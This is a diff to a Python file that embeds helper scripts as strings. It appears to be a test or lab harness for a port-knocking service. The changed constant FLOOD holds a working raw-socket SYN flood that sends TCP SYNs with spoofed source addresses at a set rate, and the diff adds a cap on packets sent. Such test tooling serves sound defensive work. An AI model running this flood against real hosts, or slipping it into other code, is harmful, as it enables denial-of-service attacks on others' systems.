@@ -23,7 +23,8 @@ SESAME = "%s: %s: OPEN SESAME"
 READY = "[ready]\nsequence = 1:udp,2:udp\n"  # who knocks at it learns that all before was heard
 DATE = re.compile(r"^\[\d{4}-\d\d-\d\d \d\d:\d\d\] ", re.M)
 
-# Sends SYNs with sources that are not its own to a port, so many a second; prints how many.
+# Sends SYNs with sources that are not its own to a port, for so many seconds unless it is ended
+# before, so many in each; prints how many.
 FLOOD = """
 import os, socket, struct, sys, time
 server, port, seconds, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
@@ -31,7 +32,7 @@ raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 segment = struct.pack(">HHIIBBHHH", 4000, port, 1, 0, 5 << 4, 2, 1000, 0, 0)
 end = struct.pack(">4s", socket.inet_aton(server)) + segment
 begin, sent = time.monotonic(), 0
-while time.monotonic() < begin + seconds:
+while time.monotonic() < begin + seconds and sent < seconds * rate:
     if sent > (time.monotonic() - begin) * rate:
         time.sleep(0.001)
         continue
